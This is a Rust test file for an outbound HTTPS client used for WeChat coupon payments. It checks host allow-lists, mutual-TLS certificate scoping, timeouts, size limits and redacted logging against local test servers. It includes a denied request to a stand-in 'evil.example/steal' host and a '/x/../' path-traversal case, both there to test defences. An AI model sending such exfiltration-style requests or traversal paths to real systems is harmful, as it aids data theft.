//! The outbound client (`wxcoupon::outbound`) against loopback servers this file starts and
//! stops: a blocking rustls server (TLS 1.3 or 1.2, client certificate required or not) or plain
//! HTTP, counting accepted connections, finished handshakes and requests.
//!
//! Certificates come from the test PKI in `common` (made with rcgen when the binary starts): a
//! test CA, a server certificate for `localhost`/`127.0.0.1`/`::1`, a merchant client certificate
//! (CN=10000098, like WeChat's `apiclient_cert.pem`) and a "rogue" one from another CA.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use bytes::Bytes;
use http_body_util::{BodyExt, Full};
use wasmtime_wasi_http::{Error as HttpError, RequestOptions, WasiBody, WasiHttpHooks};
use wxcoupon::outbound::{
    AllowList, ClientIdentity, OutboundClient, OutboundConfig, OutboundError, Timeouts,
};

use common::{make_p12, pki, MCH_ID};

mod common;

// ---- fixtures ----

const OK_BODY: &str = "<xml><return_code><![CDATA[SUCCESS]]></return_code></xml>";
/// The one path the client certificate goes with.
const SEND_COUPON: &str = "/mmpaymkttransfers/send_coupon";

// ---- the loopback server ----

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Mode {
    /// Plain HTTP.
    Plain,
    /// TLS 1.3, client certificate from the test CA required.
    Tls13Mutual,
    /// TLS 1.2 only, client certificate required.
    Tls12Mutual,
    /// TLS 1.3, no client certificate asked for.
    Tls13,
    /// Accepts TCP, never answers (not even the TLS handshake).
    Mute,
}

#[derive(Default)]
struct Stats {
    accepts: AtomicUsize,
    handshakes: AtomicUsize,
    failed_handshakes: AtomicUsize,
    requests: AtomicUsize,
    last_target: Mutex<String>,
}

struct TestServer {
    addr: SocketAddr,
    stats: Arc<Stats>,
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

trait Conn: Read + Write {}
impl<T: Read + Write> Conn for T {}

impl TestServer {
    fn start(mode: Mode) -> TestServer {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let addr = listener.local_addr().unwrap();
        let stats = Arc::new(Stats::default());
        let stop = Arc::new(AtomicBool::new(false));
        let tls = server_config(mode);
        let thread = {
            let (stats, stop) = (stats.clone(), stop.clone());
            std::thread::spawn(move || {
                let mut workers = Vec::new();
                while !stop.load(Ordering::SeqCst) {
                    match listener.accept() {
                        Ok((sock, _)) => {
                            stats.accepts.fetch_add(1, Ordering::SeqCst);
                            let (stats, stop, tls) = (stats.clone(), stop.clone(), tls.clone());
                            workers.push(std::thread::spawn(move || {
                                serve(sock, mode, tls, &stats, &stop)
                            }));
                        }
                        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                            std::thread::sleep(Duration::from_millis(5))
                        }
                        Err(_) => break,
                    }
                }
                for w in workers {
                    let _ = w.join();
                }
            })
        };
        TestServer {
            addr,
            stats,
            stop,
            thread: Some(thread),
        }
    }

    fn base_url(&self, scheme: &str) -> String {
        format!("{scheme}://127.0.0.1:{}", self.addr.port())
    }

    /// A request to `path` on this server over `scheme`.
    fn request(&self, scheme: &str, path: &str) -> http::Request<WasiBody> {
        request(&format!("{}{path}", self.base_url(scheme)))
    }

    fn accepts(&self) -> usize {
        self.stats.accepts.load(Ordering::SeqCst)
    }

    fn handshakes(&self) -> usize {
        self.stats.handshakes.load(Ordering::SeqCst)
    }

    fn requests(&self) -> usize {
        self.stats.requests.load(Ordering::SeqCst)
    }
}

impl Drop for TestServer {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

fn server_config(mode: Mode) -> Option<Arc<rustls::ServerConfig>> {
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let versions: &[&rustls::SupportedProtocolVersion] = match mode {
        Mode::Plain | Mode::Mute => return None,
        Mode::Tls12Mutual => &[&rustls::version::TLS12],
        Mode::Tls13Mutual | Mode::Tls13 => &[&rustls::version::TLS13],
    };
    let builder = rustls::ServerConfig::builder_with_provider(provider.clone())
        .with_protocol_versions(versions)
        .unwrap();
    let builder = if mode == Mode::Tls13 {
        builder.with_no_client_auth()
    } else {
        let mut roots = rustls::RootCertStore::empty();
        roots.add(pki().ca_der()).unwrap();
        let verifier =
            rustls::server::WebPkiClientVerifier::builder_with_provider(Arc::new(roots), provider)
                .build()
                .unwrap();
        builder.with_client_cert_verifier(verifier)
    };
    Some(Arc::new(
        builder
            .with_single_cert(pki().server_chain(), pki().server_key())
            .unwrap(),
    ))
}

fn is_wait(e: &std::io::Error) -> bool {
    matches!(
        e.kind(),
        std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
    )
}

/// Sleeps, waking early when the server stops.
fn pause(d: Duration, stop: &AtomicBool) {
    let end = Instant::now() + d;
    while Instant::now() < end && !stop.load(Ordering::SeqCst) {
        std::thread::sleep(Duration::from_millis(10));
    }
}

fn serve(
    mut sock: TcpStream,
    mode: Mode,
    tls: Option<Arc<rustls::ServerConfig>>,
    stats: &Stats,
    stop: &AtomicBool,
) {
    sock.set_nonblocking(false).unwrap();
    sock.set_read_timeout(Some(Duration::from_millis(50)))
        .unwrap();
    if mode == Mode::Mute {
        pause(Duration::from_secs(5), stop);
        return;
    }
    let Some(tls) = tls else {
        http_loop(&mut sock, stats, stop);
        return;
    };
    let mut conn = rustls::ServerConnection::new(tls).unwrap();
    while conn.is_handshaking() {
        match conn.complete_io(&mut sock) {
            Ok(_) => {}
            Err(e) if is_wait(&e) && !stop.load(Ordering::SeqCst) => {}
            Err(_) => {
                // rustls has sent its alert; read what the client still sends before closing,
                // as servers do, so the close is a FIN (not a reset that could hide the alert).
                stats.failed_handshakes.fetch_add(1, Ordering::SeqCst);
                let mut sink = [0u8; 4096];
                let end = Instant::now() + Duration::from_millis(500);
                while Instant::now() < end {
                    match sock.read(&mut sink) {
                        Ok(0) => break,
                        Ok(_) => {}
                        Err(e) if is_wait(&e) => {}
                        Err(_) => break,
                    }
                }
                return;
            }
        }
    }
    stats.handshakes.fetch_add(1, Ordering::SeqCst);
    let mut stream = rustls::StreamOwned::new(conn, sock);
    http_loop(&mut stream, stats, stop);
}

/// HTTP/1.1 with keep-alive; the path picks the behaviour.
fn http_loop(stream: &mut dyn Conn, stats: &Stats, stop: &AtomicBool) {
    let mut buf = Vec::new();
    loop {
        // Read one request head and body.
        let (head_end, content_length) = loop {
            if let Some(pos) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
                let head = String::from_utf8_lossy(&buf[..pos]).to_ascii_lowercase();
                let len = head
                    .lines()
                    .find_map(|l| l.strip_prefix("content-length:"))
                    .map(|v| v.trim().parse::<usize>().unwrap())
                    .unwrap_or(0);
                break (pos + 4, len);
            }
            let mut chunk = [0u8; 4096];
            match stream.read(&mut chunk) {
                Ok(0) => return,
                Ok(n) => buf.extend_from_slice(&chunk[..n]),
                Err(e) if is_wait(&e) && !stop.load(Ordering::SeqCst) => {}
                Err(_) => return,
            }
        };
        while buf.len() < head_end + content_length {
            let mut chunk = [0u8; 4096];
            match stream.read(&mut chunk) {
                Ok(0) => return,
                Ok(n) => buf.extend_from_slice(&chunk[..n]),
                Err(e) if is_wait(&e) && !stop.load(Ordering::SeqCst) => {}
                Err(_) => return,
            }
        }
        let head = String::from_utf8_lossy(&buf[..head_end]).to_string();
        buf.drain(..head_end + content_length);
        stats.requests.fetch_add(1, Ordering::SeqCst);
        let target = head.split(' ').nth(1).unwrap_or("").to_string();
        *stats.last_target.lock().unwrap() = target.clone();

        // `/slow/mmpaymkttransfers/send_coupon` behaves as `/slow`: the behaviour's name in front
        // of the one path the client presents its certificate with.
        let path = target.split('?').next().unwrap_or("");
        let path = path.strip_suffix(SEND_COUPON).unwrap_or(path);
        let result = match path {
            "/slow" => {
                pause(Duration::from_secs(3), stop);
                respond(stream, OK_BODY.as_bytes())
            }
            "/big" => respond(stream, &vec![b'x'; 100_000]),
            "/big-chunked" => {
                let mut out = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n".to_vec();
                for _ in 0..13 {
                    out.extend_from_slice(format!("{:x}\r\n", 8192).as_bytes());
                    out.extend_from_slice(&[b'y'; 8192]);
                    out.extend_from_slice(b"\r\n");
                }
                out.extend_from_slice(b"0\r\n\r\n");
                stream.write_all(&out).and_then(|_| stream.flush())
            }
            "/stall-body" => {
                let r = stream
                    .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\n0123456789")
                    .and_then(|_| stream.flush());
                pause(Duration::from_secs(3), stop);
                r
            }
            "/truncated" => {
                let _ = stream
                    .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\n0123456789")
                    .and_then(|_| stream.flush());
                return; // close mid-body
            }
            _ => respond(stream, OK_BODY.as_bytes()),
        };
        if result.is_err() {
            return;
        }
    }
}

fn respond(stream: &mut dyn Conn, body: &[u8]) -> std::io::Result<()> {
    let mut out = format!(
        "HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\nContent-Length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    out.extend_from_slice(body);
    stream.write_all(&out)?;
    stream.flush()
}

// ---- the client side ----

fn identity() -> ClientIdentity {
    let pki = pki();
    ClientIdentity::from_pem(
        pki.client_cert_pem().as_bytes(),
        pki.client_key_pem().as_bytes(),
    )
    .unwrap()
}

/// A configuration trusting only the test CA, allowing WeChat's hosts and `base_url`.
fn config(base_url: &str, identity: Option<ClientIdentity>) -> OutboundConfig {
    OutboundConfig {
        identity,
        allow: AllowList::default().with_base_url(base_url).unwrap(),
        extra_ca_pem: Some(pki().ca_pem().as_bytes().to_vec()),
        use_system_roots: false,
        ..OutboundConfig::default()
    }
}

/// A client of [`config`].
fn client(base_url: &str, identity: Option<ClientIdentity>) -> OutboundClient {
    OutboundClient::new(config(base_url, identity)).unwrap()
}

/// A [`Mode::Tls13Mutual`] server and a client presenting the merchant identity to it.
fn mutual_tls() -> (TestServer, OutboundClient) {
    let server = TestServer::start(Mode::Tls13Mutual);
    let client = client(&server.base_url("https"), Some(identity()));
    (server, client)
}

fn request(url: &str) -> http::Request<WasiBody> {
    let uri: http::Uri = url.parse().unwrap();
    let authority = uri.authority().unwrap().to_string();
    let body = Full::new(Bytes::from_static(b"<xml><mch_id>10000098</mch_id></xml>"))
        .map_err(|never| match never {})
        .boxed_unsync();
    http::Request::builder()
        .method("POST")
        .uri(uri)
        .header("host", authority)
        .header("content-type", "text/xml")
        .body(body)
        .unwrap()
}

fn options(first_byte_ms: Option<u64>, between_ms: Option<u64>) -> Option<RequestOptions> {
    Some(RequestOptions {
        connect_timeout: None,
        first_byte_timeout: first_byte_ms.map(Duration::from_millis),
        between_bytes_timeout: between_ms.map(Duration::from_millis),
    })
}

/// Through the `WasiHttpHooks` trait, as wasmtime calls it.
async fn send_via_hooks(
    client: &OutboundClient,
    req: http::Request<WasiBody>,
    opts: Option<RequestOptions>,
) -> Result<(u16, Vec<u8>), HttpError> {
    let mut hooks = client.hooks();
    let fut = hooks.send_request(req, opts, Box::new(async { Ok(()) }));
    let (response, io) = Box::into_pin(fut).await?;
    let status = response.status().as_u16();
    let body = response.into_body().collect().await?.to_bytes().to_vec();
    Box::into_pin(io).await?;
    Ok((status, body))
}

/// [`send_via_hooks`] for a request that must fail: its error.
async fn send_err(
    client: &OutboundClient,
    req: http::Request<WasiBody>,
    opts: Option<RequestOptions>,
) -> HttpError {
    send_via_hooks(client, req, opts).await.unwrap_err()
}

fn is_tls_error(e: &HttpError) -> bool {
    matches!(
        e,
        HttpError::TlsAlertReceived { .. }
            | HttpError::TlsCertificateError
            | HttpError::TlsProtocolError
    )
}

// ---- tests ----

#[tokio::test]
async fn unlisted_destinations_are_denied_without_any_connection() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    // Allowed: WeChat's hosts and the same address on another port.
    let other = TcpListener::bind("127.0.0.1:0").unwrap();
    let client = client(
        &format!("https://127.0.0.1:{}", other.local_addr().unwrap().port()),
        Some(identity()),
    );

    for url in [
        format!("https://127.0.0.1:{port}/mmpaymkttransfers/send_coupon"),
        format!("http://127.0.0.1:{port}/x"),
        format!("https://localhost:{port}/x"),
    ] {
        let err = send_err(&client, request(&url), None).await;
        assert!(
            matches!(err, HttpError::HttpRequestDenied),
            "{url}: {err:?}"
        );
    }
    // User credentials in the URI are refused too.
    let err = send_err(
        &client,
        request(&format!("https://user@127.0.0.1:{port}/x")),
        None,
    )
    .await;
    assert!(matches!(err, HttpError::HttpRequestUriInvalid), "{err:?}");
    // No connection reached the listener.
    tokio::time::sleep(Duration::from_millis(100)).await;
    match listener.accept() {
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
        other => panic!("a connection was made: {other:?}"),
    }
    assert_eq!(client.denied(), 4);
    assert_eq!(client.requests_sent(), 0);
}

#[tokio::test]
async fn mutual_tls_with_identity_answers_200_in_origin_form() {
    let (server, client) = mutual_tls();
    let url = format!("{}/mmpaymkttransfers/send_coupon", server.base_url("https"));
    let (status, body) = send_via_hooks(&client, request(&url), None).await.unwrap();
    assert_eq!(status, 200);
    assert_eq!(body, OK_BODY.as_bytes());
    assert_eq!(server.handshakes(), 1);
    assert_eq!(
        *server.stats.last_target.lock().unwrap(),
        "/mmpaymkttransfers/send_coupon",
        "the request line must be in origin-form"
    );
    assert_eq!(client.requests_sent(), 1);
    assert_eq!(client.denied(), 0);
}

#[tokio::test]
async fn mutual_tls_without_identity_is_a_tls_error() {
    let server = TestServer::start(Mode::Tls13Mutual);
    let client = client(&server.base_url("https"), None);
    let url = format!("{}/mmpaymkttransfers/send_coupon", server.base_url("https"));
    let err = send_err(&client, request(&url), None).await;
    // TLS 1.3: the server's certificate_required alert arrives after the client's handshake.
    match &err {
        HttpError::TlsAlertReceived {
            alert_id,
            alert_message,
        } => {
            assert_eq!(*alert_id, Some(116));
            assert_eq!(alert_message.as_deref(), Some("certificate_required"));
        }
        other => panic!("expected the certificate_required alert, got {other:?}"),
    }
    assert_eq!(server.handshakes(), 0);
    assert_eq!(client.failed(), 1);
}

#[tokio::test]
async fn mutual_tls_over_tls12_without_identity_is_a_tls_error() {
    let server = TestServer::start(Mode::Tls12Mutual);
    let client = client(&server.base_url("https"), None);
    let err = send_err(&client, server.request("https", SEND_COUPON), None).await;
    assert!(is_tls_error(&err), "{err:?}");

    // With the identity the same server answers.
    let client = self::client(&server.base_url("https"), Some(identity()));
    let (status, _) = send_via_hooks(&client, server.request("https", SEND_COUPON), None)
        .await
        .unwrap();
    assert_eq!(status, 200);
}

#[tokio::test]
async fn an_unknown_client_certificate_is_a_tls_error() {
    let server = TestServer::start(Mode::Tls13Mutual);
    let rogue = ClientIdentity::from_pem(
        pki().rogue_cert_pem().as_bytes(),
        pki().rogue_key_pem().as_bytes(),
    )
    .unwrap();
    let client = client(&server.base_url("https"), Some(rogue));
    let err = send_err(&client, server.request("https", SEND_COUPON), None).await;
    assert!(is_tls_error(&err), "{err:?}");
}

#[tokio::test]
async fn the_identity_goes_only_to_identity_hosts() {
    // The server is allowed, but as an extra host (no certificate): it refuses the handshake.
    let server = TestServer::start(Mode::Tls13Mutual);
    let client = OutboundClient::new(OutboundConfig {
        allow: AllowList::deny_all()
            .with_host(&server.base_url("https"))
            .unwrap(),
        ..config(&server.base_url("https"), Some(identity()))
    })
    .unwrap();
    let err = send_err(&client, server.request("https", SEND_COUPON), None).await;
    assert!(is_tls_error(&err), "{err:?}");
}

#[tokio::test]
async fn the_identity_goes_with_send_coupon_only() {
    // A server that requires a certificate on every connection: only send_coupon gets one.
    let (server, client) = mutual_tls();
    let base = server.base_url("https");
    let (status, _) = send_via_hooks(&client, request(&format!("{base}{SEND_COUPON}")), None)
        .await
        .unwrap();
    assert_eq!(status, 200);
    assert_eq!(client.requests_with_certificate(), 1);
    for path in [
        "/mmpaymkttransfers/query_coupon_stock",
        "/mmpaymkttransfers/querycouponsinfo",
        "/sandboxnew/pay/getsignkey",
        "/mmpaymkttransfers/promotion/transfers",
        "/secapi/pay/refund",
        "/x/../mmpaymkttransfers/send_coupon",
    ] {
        let err = send_err(&client, request(&format!("{base}{path}")), None).await;
        assert!(is_tls_error(&err), "{path}: {err:?}");
    }
    assert_eq!(client.requests_with_certificate(), 1);
    assert_eq!(
        server.handshakes(),
        1,
        "only send_coupon's connection completed"
    );
}

#[tokio::test]
async fn an_untrusted_server_certificate_is_a_certificate_error() {
    let server = TestServer::start(Mode::Tls13);
    // Trusts only the rogue CA, not the test CA.
    let client = OutboundClient::new(OutboundConfig {
        extra_ca_pem: Some(pki().rogue_ca_pem().as_bytes().to_vec()),
        ..config(&server.base_url("https"), None)
    })
    .unwrap();
    let err = send_err(&client, server.request("https", SEND_COUPON), None).await;
    assert!(matches!(err, HttpError::TlsCertificateError), "{err:?}");
}

#[tokio::test]
async fn sequential_requests_reuse_one_connection() {
    let (server, client) = mutual_tls();
    const N: usize = 12;
    for i in 0..N {
        let url = format!("{}{SEND_COUPON}?i={i}", server.base_url("https"));
        let (status, _) = send_via_hooks(&client, request(&url), None).await.unwrap();
        assert_eq!(status, 200);
    }
    assert_eq!(server.requests(), N);
    assert!(
        server.accepts() <= 2 && server.handshakes() <= 2,
        "{} connections, {} handshakes for {N} requests",
        server.accepts(),
        server.handshakes()
    );
    assert_eq!(client.requests_sent(), N as u64);
}

#[tokio::test]
async fn an_oversized_body_is_a_body_size_error() {
    let (server, client) = mutual_tls();
    let err = send_err(
        &client,
        server.request("https", &format!("/big{SEND_COUPON}")),
        None,
    )
    .await;
    assert!(
        matches!(err, HttpError::HttpResponseBodySize(Some(100_000))),
        "{err:?}"
    );
    let err = send_err(
        &client,
        server.request("https", &format!("/big-chunked{SEND_COUPON}")),
        None,
    )
    .await;
    assert!(matches!(err, HttpError::HttpResponseBodySize(_)), "{err:?}");
    // A small answer on the same client still works.
    let (status, _) = send_via_hooks(
        &client,
        server.request("https", &format!("/ok{SEND_COUPON}")),
        None,
    )
    .await
    .unwrap();
    assert_eq!(status, 200);
}

#[tokio::test]
async fn a_slow_first_byte_times_out() {
    let (server, client) = mutual_tls();
    let started = Instant::now();
    let err = send_err(
        &client,
        server.request("https", &format!("/slow{SEND_COUPON}")),
        options(Some(300), None),
    )
    .await;
    assert!(matches!(err, HttpError::ConnectionReadTimeout), "{err:?}");
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "{:?}",
        started.elapsed()
    );
}

#[tokio::test]
async fn default_timeouts_apply_when_the_guest_sets_none() {
    let server = TestServer::start(Mode::Tls13Mutual);
    let client = OutboundClient::new(OutboundConfig {
        timeouts: Timeouts {
            first_byte: Duration::from_millis(300),
            ..Timeouts::default()
        },
        ..config(&server.base_url("https"), Some(identity()))
    })
    .unwrap();
    let started = Instant::now();
    let err = send_err(
        &client,
        server.request("https", &format!("/slow{SEND_COUPON}")),
        None,
    )
    .await;
    assert!(matches!(err, HttpError::ConnectionReadTimeout), "{err:?}");
    assert!(started.elapsed() < Duration::from_secs(2));
}

#[tokio::test]
async fn a_stalled_body_times_out_between_bytes() {
    let (server, client) = mutual_tls();
    let started = Instant::now();
    let err = send_err(
        &client,
        server.request("https", &format!("/stall-body{SEND_COUPON}")),
        options(None, Some(300)),
    )
    .await;
    assert!(matches!(err, HttpError::ConnectionReadTimeout), "{err:?}");
    assert!(started.elapsed() < Duration::from_secs(2));
}

#[tokio::test]
async fn a_truncated_body_is_an_incomplete_response() {
    let (server, client) = mutual_tls();
    let err = send_err(
        &client,
        server.request("https", &format!("/truncated{SEND_COUPON}")),
        None,
    )
    .await;
    assert!(matches!(err, HttpError::HttpResponseIncomplete), "{err:?}");
}

#[tokio::test]
async fn a_mute_server_is_a_connect_timeout() {
    let server = TestServer::start(Mode::Mute);
    let client = client(&server.base_url("https"), Some(identity()));
    let started = Instant::now();
    let err = send_via_hooks(
        &client,
        server.request("https", "/x"),
        Some(RequestOptions {
            connect_timeout: Some(Duration::from_millis(300)),
            ..RequestOptions::default()
        }),
    )
    .await
    .unwrap_err();
    assert!(matches!(err, HttpError::ConnectionTimeout), "{err:?}");
    assert!(started.elapsed() < Duration::from_secs(2));
    assert_eq!(server.accepts(), 1);
}

#[tokio::test]
async fn a_closed_port_is_connection_refused() {
    let port = {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let base = format!("https://127.0.0.1:{port}");
    let client = client(&base, Some(identity()));
    let err = send_err(&client, request(&format!("{base}/x")), None).await;
    assert!(matches!(err, HttpError::ConnectionRefused), "{err:?}");
}

#[tokio::test]
async fn plain_http_base_url_works() {
    let server = TestServer::start(Mode::Plain);
    let client = client(&server.base_url("http"), Some(identity()));
    let (status, body) = send_via_hooks(&client, server.request("http", "/x"), None)
        .await
        .unwrap();
    assert_eq!((status, body.as_slice()), (200, OK_BODY.as_bytes()));
    assert_eq!(*server.stats.last_target.lock().unwrap(), "/x");
}

#[test]
fn no_roots_at_all_is_an_error_but_an_extra_ca_alone_is_enough() {
    let err = OutboundClient::new(OutboundConfig {
        use_system_roots: false,
        ..OutboundConfig::default()
    })
    .unwrap_err();
    assert!(matches!(err, OutboundError::NoRoots), "{err}");
    OutboundClient::new(OutboundConfig {
        use_system_roots: false,
        extra_ca_pem: Some(pki().ca_pem().as_bytes().to_vec()),
        ..OutboundConfig::default()
    })
    .unwrap();
    // With the system store (whatever it holds here) plus the extra CA.
    OutboundClient::new(OutboundConfig {
        extra_ca_pem: Some(pki().ca_pem().as_bytes().to_vec()),
        ..OutboundConfig::default()
    })
    .unwrap();
    let err = OutboundClient::new(OutboundConfig {
        extra_ca_pem: Some(b"not a certificate".to_vec()),
        ..OutboundConfig::default()
    })
    .unwrap_err();
    assert!(matches!(err, OutboundError::ExtraCa(_)), "{err}");
}

#[test]
fn identity_debug_and_errors_hold_no_key_material() {
    let pki = pki();
    let (cert_pem, key_pem, rogue_key_pem) = (
        pki.client_cert_pem(),
        pki.client_key_pem(),
        pki.rogue_key_pem(),
    );
    let id = identity();
    let debug = format!("{id:?}");
    assert!(debug.contains("<redacted>"), "{debug}");
    assert_eq!(id.certificate_count(), 1);
    let key_body = pki.client_key_lines();
    for line in &key_body {
        assert!(!debug.contains(line));
    }
    // Mismatched pair, swapped pair, garbage: messages name the problem, never the bytes.
    let cases: [(&str, &str); 3] = [
        (cert_pem, rogue_key_pem),
        (key_pem, cert_pem),
        (
            cert_pem,
            "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n",
        ),
    ];
    for (cert, key) in cases {
        let err = ClientIdentity::from_pem(cert.as_bytes(), key.as_bytes()).unwrap_err();
        let text = format!("{err} {err:?}");
        for line in key_body.iter().chain(pki.rogue_key_lines().iter()) {
            assert!(!text.contains(line), "{text}");
        }
    }
    let err = ClientIdentity::from_pem(cert_pem.as_bytes(), rogue_key_pem.as_bytes()).unwrap_err();
    assert!(err.to_string().contains("does not belong"), "{err}");
    let err = ClientIdentity::from_pem(key_pem.as_bytes(), cert_pem.as_bytes()).unwrap_err();
    assert!(err.to_string().contains("swapped"), "{err}");
}

#[test]
fn identity_from_files_and_pkcs12() {
    let dir = std::env::temp_dir().join(format!("wxcoupon-outbound-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let cert = dir.join("apiclient_cert.pem");
    let key = dir.join("apiclient_key.pem");
    std::fs::write(&cert, pki().client_cert_pem()).unwrap();
    std::fs::write(&key, pki().client_key_pem()).unwrap();
    let id = ClientIdentity::from_pem_files(&cert, &key).unwrap();
    assert_eq!(id.certificate_count(), 1);

    let missing = dir.join("nope.pem");
    let err = ClientIdentity::from_pem_files(&missing, &key).unwrap_err();
    assert_eq!(err.file_path(), Some(missing.as_path()));
    assert!(err.to_string().contains("not found"), "{err}");

    // A .p12 the way WeChat issues it: legacy 3DES + SHA-1 MAC, password = mch_id.
    let p12 = dir.join("apiclient_cert.p12");
    std::fs::write(&p12, make_p12(MCH_ID)).unwrap();
    let id = ClientIdentity::from_pkcs12_file(&p12, None, MCH_ID).unwrap();
    assert_eq!(
        id.certificates()[0].as_ref(),
        pki().client_cert_der().as_ref()
    );
    let err = ClientIdentity::from_pkcs12_file(&p12, Some("wrong"), MCH_ID).unwrap_err();
    assert!(err.to_string().contains("wrong password"), "{err}");
    assert!(!err.to_string().contains(&format!("{MCH_ID}\"")));
    let err = ClientIdentity::from_pkcs12_file(&p12, None, "999").unwrap_err();
    assert!(err.to_string().contains("mch_id was tried"), "{err}");
    let err = ClientIdentity::from_pkcs12_file(&cert, None, MCH_ID).unwrap_err();
    assert!(err.to_string().contains("not a PKCS#12"), "{err}");
    std::fs::remove_dir_all(&dir).unwrap();
}

/// Collects log lines written while the test runs.
#[derive(Clone, Default)]
struct Captured(Arc<Mutex<Vec<u8>>>);

impl std::io::Write for Captured {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

#[tokio::test(flavor = "current_thread")]
async fn logs_name_the_request_but_no_header_values_bodies_or_keys() {
    let captured = Captured::default();
    let writer = captured.clone();
    let subscriber = tracing_subscriber::fmt()
        .with_writer(move || writer.clone())
        .with_ansi(false)
        .with_max_level(tracing::Level::TRACE)
        .finish();
    let _guard = tracing::subscriber::set_default(subscriber);

    let (server, client) = mutual_tls();
    let url = format!("{}/mmpaymkttransfers/send_coupon", server.base_url("https"));
    let mut req = request(&url);
    req.headers_mut().insert(
        "authorization",
        "Bearer s3cret-header-value".parse().unwrap(),
    );
    send_via_hooks(&client, req, None).await.unwrap();
    let _ = send_via_hooks(&client, request("https://evil.example/steal"), None).await;

    let logs = String::from_utf8(captured.0.lock().unwrap().clone()).unwrap();
    assert!(logs.contains("outbound request"), "{logs}");
    assert!(logs.contains("status=200"), "{logs}");
    assert!(logs.contains("client_cert=true"), "{logs}");
    assert!(
        logs.contains("path=\"/mmpaymkttransfers/send_coupon\""),
        "{logs}"
    );
    assert!(logs.contains("elapsed_ms="), "{logs}");
    assert!(logs.contains("denied"), "{logs}");
    assert!(!logs.contains("s3cret-header-value"), "{logs}");
    assert!(!logs.contains("<mch_id>"), "{logs}");
    assert!(!logs.contains("SUCCESS"), "{logs}");
    for line in pki().client_key_lines() {
        assert!(!logs.contains(line), "{logs}");
    }
}
